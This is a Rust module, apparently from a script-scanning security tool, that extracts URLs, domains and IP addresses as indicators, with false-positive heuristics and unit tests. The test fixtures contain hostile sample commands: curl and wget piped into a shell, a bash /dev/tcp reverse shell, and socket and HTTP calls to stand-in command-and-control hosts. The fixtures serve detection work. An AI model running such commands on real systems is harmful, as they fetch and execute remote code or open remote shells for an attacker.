//! Network indicators (URIs, domains, IP addresses) named in a script or its
//! arguments, for the finding's `indicator`.
//!
//! Precision matters more than recall: an indicator list full of `os.path`
//! and version numbers is worse than a short one. So bare domains count only
//! with a well-known or commonly abused TLD and never when they read like
//! code (`obj.method(`), IPv4 literals must be exactly four in-range octets
//! not glued to other digits or dots (`1.2.3.4.5` is a version), and bare
//! IPv6 needs two non-empty groups (`a[::1]` is a Python slice). What *is*
//! present is reported, loopback included: a test's 127.0.0.1 is real.

use std::net::{IpAddr, Ipv4Addr, Ipv6Addr};
use std::sync::LazyLock;

use regex::Regex;

use super::scc::Indicator;

/// At most this many entries per list, so a huge script cannot blow up a finding.
pub const MAX_PER_KIND: usize = 64;

static URL: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(
        r#"(?i)\b(?:https?|ftps?|sftp|tftp|wss?)://(?:\[[0-9a-f:.]+\](?::\d+)?|[^\s'"<>`(){}\[\]|\\^;,/?#]+)(?:[/?#][^\s'"<>`(){}|\\^;,]*)?"#,
    )
    .expect("url regex")
});

/// `/dev/tcp/HOST/PORT` and `/dev/udp/...` (bash network redirections).
static DEV_TCP: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"/dev/(?:tcp|udp)/([^/\s'\x22]+)/").expect("dev tcp regex"));

static IPV4: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"\b\d{1,3}(?:\.\d{1,3}){3}\b").expect("ipv4 regex"));

static IPV6: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"(?i)[0-9a-f]{0,4}(?::[0-9a-f]{0,4}){2,7}").expect("ipv6 regex"));

/// Bare host names; the TLD list keeps `payload.sh`, `os.path` and `self.run` out.
static DOMAIN: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(
        r"(?i)\b(?:[a-z0-9](?:[a-z0-9-]{0,61}[a-z0-9])?\.)+(?:com|net|org|info|biz|io|co|me|cc|tk|ml|ga|cf|gq|xyz|top|ru|cn|su|pw|ws|uk|de|fr|nl|eu|onion|icu|buzz|online|club|shop|site|zip|mov|ir|kp|hk|tw|jp|kr|br|ua|by|kz|vn|id)\b",
    )
    .expect("domain regex")
});

/// Collects indicators in first-seen order, without duplicates.
#[derive(Debug, Default)]
pub struct Extractor {
    found: Indicator,
}

impl Extractor {
    pub fn new() -> Self {
        Self::default()
    }

    /// Scan one text (script contents, one argument, ...).
    pub fn scan(&mut self, text: &str) {
        // Each pattern is a full pass over the text; the bytes it cannot
        // match without (`://`, `/dev/`, a dot, two colons) are checked
        // first, which rules most out for an argument or a short script.
        let has_dot = text.contains('.');
        let mut url_spans = Vec::new();
        let urls = text.contains("://").then(|| URL.find_iter(text));
        for m in urls.into_iter().flatten() {
            url_spans.push(m.range());
            let raw = trim_trailing(m.as_str());
            self.url(raw);
        }
        let outside_urls = |start: usize| !url_spans.iter().any(|r| r.contains(&start));
        let dev_tcp = text.contains("/dev/").then(|| DEV_TCP.captures_iter(text));
        for c in dev_tcp.into_iter().flatten() {
            self.host(&c[1]);
        }
        for m in has_dot.then(|| IPV4.find_iter(text)).into_iter().flatten() {
            if !outside_urls(m.start()) || glued_to_number(text, m.start(), m.end()) {
                continue;
            }
            if let Ok(ip) = m.as_str().parse::<Ipv4Addr>() {
                self.ip(IpAddr::V4(ip));
            }
        }
        let two_colons = text.matches(':').nth(1).is_some();
        for m in two_colons
            .then(|| IPV6.find_iter(text))
            .into_iter()
            .flatten()
        {
            if !outside_urls(m.start()) || !plausible_ipv6(text, m.start(), m.end()) {
                continue;
            }
            if let Ok(ip) = m.as_str().parse::<Ipv6Addr>() {
                self.ip(IpAddr::V6(ip));
            }
        }
        for m in has_dot
            .then(|| DOMAIN.find_iter(text))
            .into_iter()
            .flatten()
        {
            if !outside_urls(m.start()) || reads_like_code(text, m.start(), m.end()) {
                continue;
            }
            self.domain(m.as_str());
        }
    }

    pub fn finish(self) -> Indicator {
        self.found
    }

    fn url(&mut self, raw: &str) {
        let Ok(url) = reqwest::Url::parse(raw) else {
            return;
        };
        push(&mut self.found.uris, raw.to_string());
        if let Some(host) = url.host_str() {
            self.host(host);
        }
    }

    /// A host from a URL or `/dev/tcp`: an IP, or a domain if it is a valid one.
    fn host(&mut self, host: &str) {
        let host = host.trim_start_matches('[').trim_end_matches(']');
        if let Ok(ip) = host.parse::<IpAddr>() {
            self.ip(ip);
        } else if valid_domain(host) {
            self.domain(host);
        }
    }

    fn ip(&mut self, ip: IpAddr) {
        if ip.is_unspecified() || ip == IpAddr::V4(Ipv4Addr::BROADCAST) {
            return;
        }
        push(&mut self.found.ip_addresses, ip.to_string());
    }

    fn domain(&mut self, domain: &str) {
        push(
            &mut self.found.domains,
            domain.trim_end_matches('.').to_ascii_lowercase(),
        );
    }
}

/// Indicators in all of `texts`.
pub fn extract<'a>(texts: impl IntoIterator<Item = &'a str>) -> Indicator {
    let mut x = Extractor::new();
    for text in texts {
        x.scan(text);
    }
    x.finish()
}

fn push(list: &mut Vec<String>, item: String) {
    if list.len() < MAX_PER_KIND && !list.contains(&item) {
        list.push(item);
    }
}

/// Punctuation that ends a sentence or a quote rather than the URL.
fn trim_trailing(url: &str) -> &str {
    url.trim_end_matches(['.', ',', ':', '!', '?', '\'', '"', ')', ']', '}'])
}

fn glued_to_number(text: &str, start: usize, end: usize) -> bool {
    let before = text[..start].chars().next_back();
    let mut after = text[end..].chars();
    let next = after.next();
    let next2 = after.next();
    matches!(before, Some(c) if c == '.' || c.is_ascii_digit())
        || matches!(next, Some(c) if c.is_ascii_digit())
        || (next == Some('.') && matches!(next2, Some(c) if c.is_ascii_alphanumeric()))
}

fn plausible_ipv6(text: &str, start: usize, end: usize) -> bool {
    let token = &text[start..end];
    let groups = token.split(':').filter(|g| !g.is_empty()).count();
    let before = text[..start].chars().next_back();
    let after = text[end..].chars().next();
    let glued =
        |c: Option<char>| matches!(c, Some(c) if c.is_ascii_alphanumeric() || c == '_' || c == '.');
    groups >= 2
        && (token.contains("::") || token.matches(':').count() == 7)
        && !glued(before)
        && !glued(after)
}

/// `self.conn.io`-style attribute chains and `foo.com(`-style calls are code.
fn reads_like_code(text: &str, start: usize, end: usize) -> bool {
    let before = text[..start].chars().next_back();
    let after = text[end..].chars().next();
    let next = text[end..].trim_start_matches([' ', '\t']);
    let first_label = text[start..end].split('.').next().unwrap_or("");
    matches!(before, Some(c) if c == '.' || c == '_' || c == '$' || c == '-')
        || matches!(after, Some(c) if c == '_' || c == '-')
        || next.starts_with('(')
        || (next.starts_with('=') && !next.starts_with("=="))
        || matches!(first_label, "self" | "this" | "cls" | "os" | "sys")
}

fn valid_domain(host: &str) -> bool {
    let host = host.trim_end_matches('.');
    if host.eq_ignore_ascii_case("localhost") {
        return true;
    }
    let labels: Vec<&str> = host.split('.').collect();
    labels.len() >= 2
        && labels.iter().all(|l| {
            !l.is_empty()
                && l.len() <= 63
                && l.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'-')
                && !l.starts_with('-')
                && !l.ends_with('-')
        })
        && labels.last().is_some_and(|tld| {
            (tld.len() >= 2 && tld.bytes().all(|b| b.is_ascii_alphabetic()))
                || tld.starts_with("xn--")
        })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn ind(text: &str) -> Indicator {
        extract([text])
    }

    #[test]
    fn curl_pipe_bash() {
        let i = ind("curl -s http://127.0.0.1:9/stage2.sh | bash\n");
        assert_eq!(i.uris, ["http://127.0.0.1:9/stage2.sh"]);
        assert_eq!(i.ip_addresses, ["127.0.0.1"]);
        assert!(i.domains.is_empty(), "{:?}", i.domains);
    }

    #[test]
    fn url_with_domain_gives_domain_and_uri() {
        let i = ind("wget -qO- 'https://Evil.Example.com/x.sh?a=1'; echo done.");
        assert_eq!(i.uris, ["https://Evil.Example.com/x.sh?a=1"]);
        assert_eq!(i.domains, ["evil.example.com"]);
    }

    #[test]
    fn trailing_punctuation_is_not_part_of_the_url() {
        let i = ind("see (http://a.example.org/path).");
        assert_eq!(i.uris, ["http://a.example.org/path"]);
    }

    #[test]
    fn python_socket_tuple_and_domain() {
        let i = ind("s.connect((\"10.1.2.3\", 4444))\nrequests.get('http://c2.evil.ru/p')\nhost = 'pastebin.com'\n");
        assert_eq!(i.ip_addresses, ["10.1.2.3"]);
        assert_eq!(i.domains, ["c2.evil.ru", "pastebin.com"]);
        assert_eq!(i.uris, ["http://c2.evil.ru/p"]);
    }

    #[test]
    fn dev_tcp_hosts() {
        let i = ind("bash -i >& /dev/tcp/127.0.0.1/9 0>&1; exec 3<>/dev/tcp/c2.example.net/443");
        assert_eq!(i.ip_addresses, ["127.0.0.1"]);
        assert_eq!(i.domains, ["c2.example.net"]);
    }

    #[test]
    fn code_and_versions_are_not_indicators() {
        let i = ind(
            "import os.path\nos.path.join(a, b)\nself.sock.io = 1\nx = payload.sh\n\
             version 1.2.3.4.5 and v10.0.0.1\nlib.so.1.2.3.4\nb = a[::2]; c = a[::1]\n\
             echo 12:30:45 aa:bb:cc:dd:ee:ff\nconfig.co_filename\n0.0.0.0 255.255.255.255 999.1.1.1\n",
        );
        assert!(i.ip_addresses.is_empty(), "{:?}", i.ip_addresses);
        assert!(i.domains.is_empty(), "{:?}", i.domains);
        assert!(i.uris.is_empty(), "{:?}", i.uris);
    }

    #[test]
    fn ipv6_literals() {
        let i =
            ind("curl http://[2001:db8::1]:8080/x; ping6 fe80::1:2; nc 2001:db8:0:0:0:0:0:2 80");
        assert_eq!(i.uris, ["http://[2001:db8::1]:8080/x"]);
        assert_eq!(i.ip_addresses, ["2001:db8::1", "fe80::1:2", "2001:db8::2"]);
    }

    #[test]
    fn ip_at_end_of_sentence() {
        let i = ind("connects to 192.168.1.10.");
        assert_eq!(i.ip_addresses, ["192.168.1.10"]);
    }

    #[test]
    fn duplicates_collapse_and_lists_are_bounded() {
        let mut text = String::from("http://a.example.com/ http://a.example.com/ ");
        for n in 0..200 {
            text.push_str(&format!("10.0.{}.{} ", n / 250, n % 250 + 1));
        }
        let i = ind(&text);
        assert_eq!(i.uris.len(), 1);
        assert_eq!(i.domains, ["a.example.com"]);
        assert_eq!(i.ip_addresses.len(), MAX_PER_KIND);
    }

    #[test]
    fn shell_variables_in_hosts_are_not_domains() {
        let i = ind("curl http://$C2_HOST/x.sh | sh");
        assert_eq!(i.uris, ["http://$C2_HOST/x.sh"]);
        assert!(i.domains.is_empty());
    }

    #[test]
    fn email_and_user_at_host() {
        let i = ind("ssh root@jump.example.net; mail ops@corp.example.org");
        assert_eq!(i.domains, ["jump.example.net", "corp.example.org"]);
    }
}
